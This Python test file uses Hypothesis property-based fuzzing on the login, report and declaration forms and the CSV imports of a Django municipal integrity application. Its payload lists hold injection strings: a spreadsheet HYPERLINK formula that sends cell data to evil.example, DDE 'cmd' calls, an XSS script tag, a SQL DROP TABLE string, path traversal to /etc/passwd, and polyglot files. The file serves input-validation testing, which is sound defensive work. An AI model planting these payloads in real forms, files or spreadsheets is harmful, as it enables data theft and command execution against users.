"""Property-based fuzzing of the public forms and the imports: bad input gets a clear error,
never a 500, and a refused submission or import writes nothing.

Forms (read from the page itself: every ``input``/``textarea``/``select`` of the form the
page serves, so a new field is fuzzed too): the log-in, the anonymous integrity intake, the
support help form, the incident report form and the side-activity declaration. Values:
oversized fields, control characters, NUL, lone surrogates' replacement, right-to-left
overrides, spreadsheet formulas (``=HYPERLINK(…)``, ``+cmd``, ``@SUM``, ``-1+1``), wrong
choices; file fields get polyglot files (PDF+ZIP+HTML), a fake PNG with a script, an empty
file and an oversized one.

Imports: ``vib organisations import``, ``vib incidents import`` (CSV) and the survey frame
import (``surveys.services.frame_import_csv``: the command-line ``vib surveys`` has no frame
import; the web upload calls this service), into a wave the test creates through the services
(the demo's only wave, 2016, is closed). Files: the right header with fuzzed cells, encoded
as UTF-8, UTF-8 with BOM, latin-1 or UTF-16 (some rows valid, so the write path runs too);
random bytes; polyglots; a broken workbook; an oversized file.
Either the import succeeds or it stops with a message (``CommandError``, the service's error)
and the row counts are unchanged.

Bounded: a few dozen examples per target (about a minute with the shared demo).
"""

from __future__ import annotations

import io
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.utils import timezone
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

pytestmark = pytest.mark.django_db

FUZZ = settings(
    max_examples=15,
    deadline=None,
    database=None,
    derandomize=True,
    suppress_health_check=list(HealthCheck),
)
# The imports are cheap to run (no page to render): twice the examples, so that enough
# files pass and the write path is fuzzed as well as the refusals.
IMPORT_FUZZ = settings(FUZZ, max_examples=30)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "=1+1",
    "\t=1+1",
]
NASTY = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\r\n\r\n",
    "\x1b[31mred\x1b[0m",
    "\u202eevil\u202c",
    "\ufeffbom",
    "😀" * 50,
    "<script>alert(1)</script>",
    "'; DROP TABLE incidents_incident; --",
    "../../etc/passwd",
    "%s%n%x",
    "A" * 300,
]

text_values = st.one_of(
    st.sampled_from(NASTY + FORMULAS),
    st.text(max_size=40),
    st.text(alphabet=st.characters(max_codepoint=0x1F), max_size=20),  # control characters
    st.integers(1_000, 120_000).map(lambda n: "x" * n),  # oversized
    st.builds(lambda f, t: f + t, st.sampled_from(FORMULAS), st.text(max_size=10)),
)

PDF_ZIP_HTML = (
    b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n"
    b"PK\x03\x04\x14\x00\x00\x00\x08\x00"
    b"<html><script>alert(1)</script></html>\n%%EOF"
)
FILES = [
    ("polyglot.pdf", PDF_ZIP_HTML, "application/pdf"),
    ("foto.png", b"\x89PNG\r\n\x1a\n<script>alert(1)</script>", "image/png"),
    ("leeg.txt", b"", "text/plain"),
    ("=cmd.csv", b'=HYPERLINK("x")\n', "text/csv"),
    ("groot.bin", b"\x00" * (12 * 1024 * 1024), "application/octet-stream"),
    ("../../escape.txt", b"hallo", "text/plain"),
]


class _Fields(HTMLParser):
    """The named fields of the last ``<form method=post>`` on a page, with select options."""

    def __init__(self) -> None:
        super().__init__()
        self.forms: list[dict[str, Any]] = []
        self._select: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "form" and a.get("method", "").lower() == "post":
            self.forms.append({"action": a.get("action", ""), "fields": {}})
        if not self.forms or "name" not in a:
            if tag == "option" and self._select and self.forms:
                self.forms[-1]["fields"][self._select]["options"].append(a.get("value", ""))
            return
        fields = self.forms[-1]["fields"]
        if tag == "input":
            kind = a.get("type", "text").lower()
            entry = fields.setdefault(a["name"], {"kind": kind, "options": []})
            if kind in ("radio", "checkbox", "hidden"):
                entry["options"].append(a.get("value", "on"))
        elif tag == "textarea":
            fields[a["name"]] = {"kind": "text", "options": []}
        elif tag == "select":
            fields[a["name"]] = {"kind": "select", "options": []}
            self._select = a["name"]
        if tag == "option" and self._select:
            fields[self._select]["options"].append(a.get("value", ""))

    def handle_endtag(self, tag: str) -> None:
        if tag == "select":
            self._select = None


def form_fields(client: Any, url: str) -> dict[str, Any]:
    page = client.get(url)
    assert page.status_code == 200, (url, page.status_code)
    parser = _Fields()
    parser.feed(page.content.decode())
    forms = [f for f in parser.forms if "csrfmiddlewaretoken" in f["fields"] or f["fields"]]
    assert forms, f"no POST form on {url}"
    return max(forms, key=lambda f: len(f["fields"]))["fields"]


def fuzzed_post(data: st.DataObject, fields: dict[str, Any]) -> dict[str, Any]:
    post: dict[str, Any] = {}
    for name, field in fields.items():
        if name == "csrfmiddlewaretoken":
            continue
        kind, options = field["kind"], [o for o in field["options"] if o]
        if kind == "file":
            if data.draw(st.booleans()):
                filename, content, mime = data.draw(st.sampled_from(FILES))
                post[name] = SimpleUploadedFile(filename, content, content_type=mime)
            continue
        if kind == "hidden":
            post[name] = field["options"][0] if field["options"] else ""
            continue
        if options and data.draw(st.integers(0, 3)) > 0:
            post[name] = data.draw(st.sampled_from(options))  # mostly valid choices …
        elif kind in ("checkbox",) and not options:
            continue
        else:
            post[name] = data.draw(text_values)  # … else anything
    return post


def counts(*labels: str) -> dict[str, int]:
    from django.apps import apps

    return {label: apps.get_model(label).objects.count() for label in labels}


def check_submission(client: Any, url: str, post: dict[str, Any], models: tuple[str, ...]) -> None:
    before = counts(*models)
    response = client.post(url, post)
    assert response.status_code < 500, (url, response.status_code)
    after = counts(*models)
    if response.status_code in (301, 302, 303):
        return  # accepted (or sent elsewhere): one record at most per model
    if response.status_code == 200 and b"errorlist" not in response.content:
        # Some forms render their confirmation on the same URL (the intake shows its code).
        assert all(after[m] - before[m] in (0, 1) for m in models), (url, before, after)
        return
    assert after == before, (url, response.status_code, before, after)


# --- the forms -----------------------------------------------------------------------------


@pytest.fixture
def people(demo) -> dict[str, Any]:
    from vib.accounts.models import User

    return {u.email.split("@")[0]: u for u in User.objects.filter(email__endswith="@demo.vib.nl")}


def _client_for(client: Any, user: Any | None) -> Any:
    if user is not None:
        client.force_login(user)
    return client


@pytest.fixture
def organisation(demo) -> Any:
    from vib.accounts.models import RoleAssignment

    assignment = (
        RoleAssignment.objects.filter(user__email="medewerker@demo.vib.nl")
        .exclude(organisation=None)
        .first()
    )
    assert assignment is not None
    return assignment.organisation


@FUZZ
@given(data=st.data())
def test_login_form(client, demo, data) -> None:
    cache.clear()
    url = "/inloggen"
    fields = form_fields(client, url)
    post = fuzzed_post(data, fields)
    response = client.post(url, post)
    assert response.status_code < 500
    assert "_auth_user_id" not in client.session


@FUZZ
@given(data=st.data())
def test_integrity_intake(client, organisation, data) -> None:
    cache.clear()
    url = f"/integriteit/melden/{organisation.pk}"
    post = fuzzed_post(data, form_fields(client, url))
    check_submission(client, url, post, ("integrity.Case", "integrity.Attachment"))


@FUZZ
@given(data=st.data())
def test_incident_report_form(client, people, data) -> None:
    cache.clear()
    _client_for(client, people["medewerker"])
    url = "/incidenten/melden"
    post = fuzzed_post(data, form_fields(client, url))
    check_submission(client, url, post, ("incidents.Incident",))


@FUZZ
@given(data=st.data())
def test_support_help_form(client, people, data) -> None:
    cache.clear()
    _client_for(client, people["burgemeester"])
    url = "/steunpunt/hulp-vragen"
    post = fuzzed_post(data, form_fields(client, url))
    check_submission(client, url, post, ("support.HelpRequest",))


@FUZZ
@given(data=st.data())
def test_side_activity_declaration(client, people, data) -> None:
    cache.clear()
    _client_for(client, people["wethouder"])
    url = "/nevenwerkzaamheden/melden"
    post = fuzzed_post(data, form_fields(client, url))
    check_submission(client, url, post, ("disclosures.SideActivity",))


# --- the imports ---------------------------------------------------------------------------

ENCODINGS = ["utf-8", "utf-8-sig", "latin-1", "utf-16"]
Valid = dict[str, st.SearchStrategy[str]]


def csv_bytes(data: st.DataObject, header: list[str], valid: Valid | None = None) -> bytes:
    """A file for an import: random bytes, a polyglot, a broken workbook (a zip's magic
    number, then anything), an oversized field, or rows of cells.

    ``valid`` gives, per column, values the import accepts. A "clean" file (UTF-8) takes
    them for every column that has them, so it can pass and the write path is fuzzed
    through the free-text columns; in other files half the rows do, the rest mix them with
    fuzzed cells.
    """
    valid = valid or {}
    shapes = ["cells", "cells", "random", "polyglot", "zip", "oversized"]
    shape = data.draw(st.sampled_from(["clean"] * 3 + shapes if valid else shapes))
    if shape == "random":
        return data.draw(st.binary(max_size=2000))
    if shape == "polyglot":
        return PDF_ZIP_HTML + b"\n" + ",".join(header).encode() + b"\n"
    if shape == "zip":
        return b"PK\x03\x04" + data.draw(st.binary(max_size=2000))
    if shape == "oversized":
        return (",".join(header) + "\n").encode() + b"x" * (6 * 1024 * 1024)
    rows = []
    for _row in range(data.draw(st.integers(1, 2 if shape == "clean" else 4))):
        clean = shape == "clean" or data.draw(st.booleans())
        rows.append(
            [
                data.draw(
                    valid[column]
                    if column in valid and (clean or data.draw(st.booleans()))
                    else text_values
                )
                for column in header
            ]
        )
    text = (
        ",".join(header)
        + "\n"
        + "\n".join(",".join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows)
    )
    encoding = data.draw(st.sampled_from(ENCODINGS[:2] if shape == "clean" else ENCODINGS))
    return text.encode(encoding, errors="replace")


def run_import(tmp_path: Path, content: bytes, argv: list[str], models: tuple[str, ...]) -> None:
    path = tmp_path / "import.csv"
    path.write_bytes(content)
    before = counts(*models)
    out, err = io.StringIO(), io.StringIO()
    refused: str | None = None
    try:
        call_command(*argv, str(path), stdout=out, stderr=err)
    except CommandError as exc:
        refused = str(exc).strip() or "(no message)"
    except SystemExit as exc:  # argparse or the command itself
        refused = f"exit {exc.code}" if exc.code not in (0, None) else None
    event("refused" if refused is not None else "imported")
    if refused is not None:
        assert counts(*models) == before, "a refused import wrote rows"
        assert refused != "(no message)", "an import refused without saying why"
    else:
        assert all(counts(*models)[m] >= before[m] for m in models)


@IMPORT_FUZZ
@given(data=st.data())
def test_organisations_import(demo, tmp_path_factory, data) -> None:
    header = ["code", "name", "tier", "province_code", "inhabitants", "staff", "reference_date"]
    content = csv_bytes(data, header)
    run_import(
        tmp_path_factory.mktemp("org"),
        content,
        ["organisations", "import", "--partial"],
        ("organisations.Organisation",),
    )


def _incident_values() -> Valid:
    from vib.incidents import codes

    def one_of(choices: Any) -> st.SearchStrategy[str]:
        return st.sampled_from(list(choices.values))

    return {
        "datum_tijd": st.sampled_from(["14-03-2025 10:30", "2025-04-01T21:15", "2024-01-02"]),
        "soorten": st.lists(one_of(codes.IncidentType), min_size=1, max_size=3).map(",".join),
        "kanaal": st.sampled_from(
            [c for c in codes.Channel.values if c != codes.Channel.SOCIAL_MEDIA]
        ),
        "ernst": one_of(codes.Severity),
        "plaats": one_of(codes.PlaceKind),
        "organisatie": st.just(""),
        "eenheid": st.just(""),
        "status": one_of(codes.Status),
        "gemeld_op": st.just(""),
        "platform": st.just(""),
        "slachtoffergroepen": one_of(codes.VictimGroup),
        "schade_euro": st.sampled_from(["", "0", "12,50", "1.234,56"]),
        "verhaald_euro": st.just(""),
        "politie": st.sampled_from(["", *codes.PoliceReportKind.values]),
        "vpt": st.sampled_from(["", "ja", "nee"]),
        # locatie, omschrijving, bron, extern_id, referentie, nazorg_open: always fuzzed
    }


@IMPORT_FUZZ
@given(data=st.data())
def test_incidents_import(demo, organisation, tmp_path_factory, data) -> None:
    from vib.incidents.imports import COLUMNS

    content = csv_bytes(data, list(COLUMNS), _incident_values())
    run_import(
        tmp_path_factory.mktemp("inc"),
        content,
        ["incidents", "import", "--organisation", organisation.code],
        ("incidents.Incident", "incidents.Victim", "incidents.Transition"),
    )


@pytest.fixture
def frame_wave(people) -> Any:
    """A wave of this year whose frame is open (the demo's only wave, 2016, is closed)."""
    import datetime as dt

    from vib.accounts.models import RoleAssignment
    from vib.surveys import services

    monitor = people["monitor"]
    owner = RoleAssignment.objects.filter(user=monitor).exclude(organisation=None).first()
    assert owner is not None
    assert owner.organisation is not None
    today = timezone.localdate()
    wave = services.wave_create(
        actor=monitor,
        organisation=owner.organisation,
        edition=today.year,
        title="Fuzz wave",
        field_start=today,
        field_end=today + dt.timedelta(days=30),
        instruments=["office_holders-2016.1", "employees-2016.1", "organisations-2016.1"],
    )
    services._frame_open(wave)  # raises when it is not open
    return wave


def _frame_values() -> Valid:
    from vib.organisations.models import Organisation, Tier
    from vib.surveys import strata

    codes = list(Organisation.objects.order_by("code").values_list("code", flat=True)[:20])
    return {
        "instrument": st.sampled_from(["office_holders", "employees", "organisations"]),
        "email": st.one_of(
            *[st.emails().map(str)] * 3,
            st.builds(lambda local: f"{local}@example.nl", text_values),  # near misses
        ),
        "tier": st.sampled_from(list(Tier.values)),
        "organisation": st.sampled_from(["", "", *codes]),
        "function": st.sampled_from(list(strata.FUNCTIONS)),
        "gender": st.sampled_from(["", *strata.GENDERS]),
    }


@IMPORT_FUZZ
@given(data=st.data())
def test_survey_frame_import(people, frame_wave, data) -> None:
    from django.core.exceptions import ValidationError
    from django.core.validators import validate_email

    from vib.surveys import services
    from vib.surveys.models import Invitation

    header = list(services.CSV_COLUMNS)
    content = csv_bytes(data, header, _frame_values())
    before = counts("surveys.Invitation")
    messages: list[str] | None = None
    try:
        result = services.frame_import_csv(
            actor=people["monitor"], wave=frame_wave, file=io.BytesIO(content)
        )
    except services.FrameImportError as exc:
        messages = [str(e) for e in exc.errors]
    except ValidationError as exc:
        messages = list(exc.messages)
    event("refused" if messages is not None else "imported")
    if messages is not None:
        assert messages
        assert all(m.strip() for m in messages)
        assert counts("surveys.Invitation") == before
    else:
        after = counts("surveys.Invitation")["surveys.Invitation"]
        assert after == before["surveys.Invitation"] + result.added
        for email in Invitation.objects.filter(wave=frame_wave).values_list("email", flat=True):
            validate_email(email)  # only addresses mail can go to entered the frame


def test_formula_cells_are_not_exported_live() -> None:
    """Sanity of the strategies: every formula prefix a spreadsheet acts on is covered."""
    assert {f.lstrip("\t")[0] for f in FORMULAS} >= {"=", "+", "-", "@"}
    assert re.search(r"HYPERLINK", FORMULAS[0])
